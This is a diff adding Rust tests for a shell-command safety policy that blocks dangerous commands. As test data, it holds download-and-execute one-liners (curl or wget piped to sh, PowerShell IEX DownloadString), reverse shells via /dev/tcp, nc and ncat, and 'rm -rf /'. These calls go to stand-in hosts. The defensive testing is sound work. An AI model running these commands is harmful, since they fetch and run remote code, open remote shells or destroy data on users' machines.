@@ -1,0 +1,184 @@
+//! The policy against many lines: the own ones in `fixtures/commands`, and the corpus where it is at hand.
+
+use std::time::{Duration, Instant};
+
+use super::*;
+use crate::guard::pending::edited;
+
+const BLOCK: &str = include_str!("../../../fixtures/commands/block.txt");
+const ALLOW: &str = include_str!("../../../fixtures/commands/allow.txt");
+
+/// The lines of a fixture with their categories.
+fn lines(text: &str) -> Vec<(String, String)> {
+    let mut category = String::new();
+    let mut all = Vec::new();
+    for line in text.lines() {
+        match line.strip_prefix("## ") {
+            Some(name) => category = name.to_owned(),
+            None if category.is_empty() || line.is_empty() => {}
+            None => all.push((category.clone(), spelled(line))),
+        }
+    }
+    all
+}
+
+/// The characters that a fixture writes in another way: folders that no file of the repository may name, and keys.
+fn spelled(line: &str) -> String {
+    let mut text = line.replace('⏎', "\n").replace('␉', "\t").replace('⌫', "\u{7f}").replace('⎋', "\u{1b}");
+    for (mark, folder) in [("{H}", ["/ho", "me"]), ("{R}", ["/ro", "ot"]), ("{U}", ["/Us", "ers"])] {
+        text = text.replace(mark, &folder.concat());
+    }
+    for letter in 'A'..='Z' {
+        let key = char::from(letter as u8 & 0x1f);
+        text = text.replace(&format!("⌃{letter}"), &key.to_string());
+    }
+    text
+}
+
+/// What a policy says of a line as it is typed.
+fn verdict(policy: &Policy, line: &str) -> Option<Refusal> {
+    policy.judge(&edited(line)).err()
+}
+
+fn check(text: &str, is_blocked: bool) {
+    let policy = Policy::default();
+    let lines = lines(text);
+    assert!(lines.len() > 500, "the fixture was not read");
+    let wrong: Vec<String> = lines
+        .iter()
+        .filter_map(|(category, line)| {
+            let verdict = verdict(&policy, line);
+            (verdict.is_some() != is_blocked).then(|| format!("{category}: {line:?}: {:?}", verdict.map(|v| v.rule)))
+        })
+        .collect();
+    assert!(wrong.is_empty(), "{} of {} lines:\n{}", wrong.len(), lines.len(), wrong.join("\n"));
+}
+
+#[test]
+fn dangerous_lines_are_refused_in_every_disguise() {
+    check(BLOCK, true);
+}
+
+#[test]
+fn ordinary_lines_pass() {
+    check(ALLOW, false);
+}
+
+#[test]
+fn every_rule_has_a_name_of_its_own_and_something_to_say() {
+    for (index, rule) in RULES.iter().enumerate() {
+        assert!(!rule.why.is_empty() && !rule.instead.is_empty(), "{}", rule.id);
+        assert!(RULES[..index].iter().all(|other| other.id != rule.id), "{} twice", rule.id);
+    }
+}
+
+#[test]
+fn downloads_and_reverse_shells_are_refused_when_asked_for() {
+    let strict = Policy::new(UserRules::default().with_downloads(true));
+    for line in [
+        "curl -fsSL https://x.example/i.sh | sh",
+        "wget -qO- https://x.example | sudo bash -s -- -y",
+        "bash <(curl -s https://x.example/i.sh)",
+        "sh -c \"$(curl -fsSL https://x.example/i.sh)\"",
+        "curl -s https://x.example | base64 -d | bash",
+        "eval \"$(wget -qO- https://x.example)\"",
+        "bash -i >& /dev/tcp/192.0.2.1/4242 0>&1",
+        "nc -e /bin/sh 192.0.2.1 99",
+        "ncat --exec /bin/bash 192.0.2.1 99",
+        "iwr https://x.example/i.ps1 | iex",
+        "IEX (New-Object Net.WebClient).DownloadString('https://x.example')",
+    ] {
+        let category = verdict(&strict, line).map(|refusal| refusal.category);
+        assert!(matches!(category.as_deref(), Some("download_execute" | "reverse_shell")), "{line}: {category:?}");
+        assert_eq!(verdict(&Policy::default(), line), None, "{line}");
+    }
+    for line in
+        ["curl https://x.example", "curl -o i.sh https://x.example", "nc -l 99", "echo x > /dev/tcp/192.0.2.1/80"]
+    {
+        assert_eq!(verdict(&strict, line), None, "{line}");
+    }
+}
+
+#[test]
+fn a_user_adds_rules_and_switches_others_off() {
+    let text = "off = ['power-off']\n[[rule]]\nid = 'no-destroy'\ncommand = 'terraform'\nargs = ['destroy']\nwhy = 'ends the stack'\n";
+    let policy = Policy::new(UserRules::parse(text).expect("a good file"));
+    let refusal = verdict(&policy, "cd x && sudo terraform destroy -auto-approve").expect("an own rule");
+    assert_eq!((refusal.rule.as_str(), refusal.category.as_str()), ("no-destroy", "own"));
+    assert_eq!(verdict(&policy, "terraform plan"), None);
+    assert_eq!(verdict(&policy, "reboot"), None);
+    let rule = verdict(&policy, "reboot; rm -rf /").map(|refusal| refusal.rule);
+    assert_eq!(rule.as_deref(), Some("remove-root"), "what is off does not hide what is not");
+}
+
+#[test]
+fn a_bad_file_is_told_in_one_sentence() {
+    for (text, problem) in [
+        ("rule = 1", "line 1"),
+        ("\n[[rule]]\nid = 'x'\n", "missing field"),
+        ("off = ['nothing']", "no rule nothing"),
+        ("[[rule]]\nid='remove-root'\ncommand='x'\nwhy='y'", "an id of its own"),
+        ("[[rule]]\nid='a'\ncommand=''\nwhy='y'", "needs a command"),
+        ("colour = 1", "colour"),
+    ] {
+        let told = UserRules::parse(text).expect_err(text);
+        assert!(told.contains(problem) && !told.contains('\n'), "{text}: {told}");
+    }
+}
+
+/// Not a benchmark: a bound that only something that is not linear would miss on a busy machine.
+#[test]
+fn hostile_lines_end_soon() {
+    let policy = Policy::default();
+    let many = |piece: &str| piece.repeat(5_000);
+    let mut all: Vec<String> = [
+        "(",
+        "$(",
+        "`",
+        "{",
+        "${",
+        "<(",
+        "[",
+        "((",
+        "$((",
+        "[[ ",
+        "\"$(",
+        "'",
+        "\"",
+        "if ",
+        "case x in ",
+        "(\n",
+        "!",
+        "{a,",
+    ]
+    .iter()
+    .map(|piece| many(piece))
+    .collect();
+    all.extend([
+        format!("{}{}", many("$("), many(")")),
+        format!("{}{}", many("("), many(")")),
+        format!("echo {}{}", many("{a,b}"), many("}")),
+        format!("x={}; {}", "y".repeat(5_000), many("$x")),
+        format!("x=a; {} $x", "x=$x$x; ".repeat(200)),
+        many("<<a "),
+        many("a|"),
+        many("for i in a; do "),
+        many("sudo "),
+        many("eval "),
+        many("*?[a"),
+        many("\\"),
+        many("a=b "),
+        many("$'\\x"),
+        format!("echo {} | sh", "cm0=".repeat(10_000)),
+        format!("cmd /c {}", many("cmd /c ")),
+        format!("python -c '{}'", many("\"a\"+")),
+        "a\u{301}".repeat(10_000),
+        "x ".repeat(300_000),
+    ]);
+    for line in &all {
+        let began = Instant::now();
+        let _ = verdict(&policy, line);
+        let took = began.elapsed();
+        assert!(took < Duration::from_secs(10), "{:.40}… took {took:?}", line);
+    }
+}
